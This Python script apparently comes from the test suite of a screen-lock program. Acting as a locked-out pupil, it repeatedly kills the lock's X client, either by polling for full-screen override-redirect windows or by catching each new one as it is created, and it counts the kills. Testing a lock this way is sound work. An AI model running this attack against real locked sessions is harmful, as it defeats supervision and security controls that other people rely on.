#!/usr/bin/python3
"""Attack, as the pupil in their X session: kill the lock's X connection
(XKillClient, what `xkill` does) again and again, for SECONDS seconds.

    xkill-loop.py SECONDS [OUT [INTERVAL]]     (OUT: unused, the keys go to the xterm)
    xkill-loop.py SECONDS OUT --on-create      kill the lock once, then every new
                                               lock window as X creates it

The lock is found as X shows it to any client: a mapped override-redirect
top-level window as large as the screen (with --on-create: an override-redirect
window as large as the screen, at its CreateNotify). Prints how many kills were sent.
"""
import select
import sys
import time
from Xlib import X, display, error

seconds = float(sys.argv[1])
on_create = "--on-create" in sys.argv
interval = float(sys.argv[3]) if len(sys.argv) > 3 and not on_create else 0.05
d = display.Display()
screen = d.screen()
root = screen.root
kills = 0
end = time.monotonic() + seconds


def full_screen(w, h):
    return w >= screen.width_in_pixels and h >= screen.height_in_pixels


def kill_shown_locks():
    """XKillClient of every mapped override-redirect full-screen window; how many."""
    n = 0
    try:
        for w in root.query_tree().children:
            try:
                a = w.get_attributes()
                if not a.override_redirect or a.map_state != X.IsViewable:
                    continue
                g = w.get_geometry()
                if full_screen(g.width, g.height):
                    w.kill_client()
                    n += 1
            except error.XError:
                pass
        d.sync()
    except error.XError:
        pass
    return n


if on_create:
    # Hear about every top-level window created, then kill the lock that is up.
    root.change_attributes(event_mask=X.SubstructureNotifyMask)
    kills = kill_shown_locks()
    created = 0
    while time.monotonic() < end:
        if not d.pending_events():
            select.select([d.fileno()], [], [], max(0.0, min(0.2, end - time.monotonic())))
        while d.pending_events():
            ev = d.next_event()
            if ev.type == X.CreateNotify and ev.override and full_screen(ev.width, ev.height):
                try:
                    ev.window.kill_client()
                    d.sync()
                    created += 1
                except error.XError:
                    pass
    print(f"kills={kills} on-create kills={created}" if created else f"kills={kills} on-create none")
    sys.exit(0)

while time.monotonic() < end:
    kills += kill_shown_locks()
    time.sleep(interval)
print(f"kills={kills}")
